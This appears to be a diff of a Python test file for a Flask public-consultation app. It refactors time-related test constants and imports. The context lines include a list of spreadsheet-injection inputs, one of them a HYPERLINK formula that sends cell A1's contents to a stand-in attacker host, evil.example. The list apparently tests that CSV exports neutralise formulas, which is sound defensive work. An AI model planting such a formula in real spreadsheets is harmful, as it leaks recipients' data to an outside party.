@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import UTC, datetime
 
 from flask.testing import FlaskClient
 from sqlalchemy import update
@@ -18,10 +17,8 @@ from consult.models import Comment, Organization
 from consult.runtime import Runtime
 from consult.scope import BIGGEST_ID
 from consult.text import spreadsheet_cell
-from tests.conftest import Clock
-from tests.helpers import csrf, login, post_draft, start, take
+from tests.helpers import MORNING_AFTER_WINDOW, Clock, csrf, login, post_draft, start, take
 
-AFTER_WINDOW = datetime(2024, 3, 22, 1, 0, tzinfo=UTC)
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
     "+84 912 345 678",
@@ -120,7 +117,7 @@ def test_a_control_character_stored_before_never_breaks_the_synthesis_report(
     # a NUL, and unlike a NUL PostgreSQL stores it, so the case is the same on both databases.
     with write_session(runtime.db) as session:
         session.execute(update(Comment).values(locality="Thôn\x0bY", body="Nhất\x0b trí."))
-    clock.set(AFTER_WINDOW)
+    clock.set(MORNING_AFTER_WINDOW)
     take(runtime, consultation_id, "close_posting", "system")
     login(client, "tuphap")
     token = csrf(client, f"/staff/review/{consultation_id}/report")
